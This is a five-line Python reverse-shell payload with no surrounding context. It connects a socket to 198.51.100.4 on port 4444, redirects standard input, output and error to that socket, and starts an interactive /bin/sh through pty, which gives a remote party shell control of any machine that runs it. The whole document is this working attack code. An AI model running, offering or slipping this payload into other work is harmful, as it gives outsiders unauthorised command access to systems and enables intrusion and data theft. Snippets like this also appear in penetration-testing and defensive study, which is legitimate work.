import os, pty, socket
s = socket.socket()
s.connect(('198.51.100.4', 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn('/bin/sh')
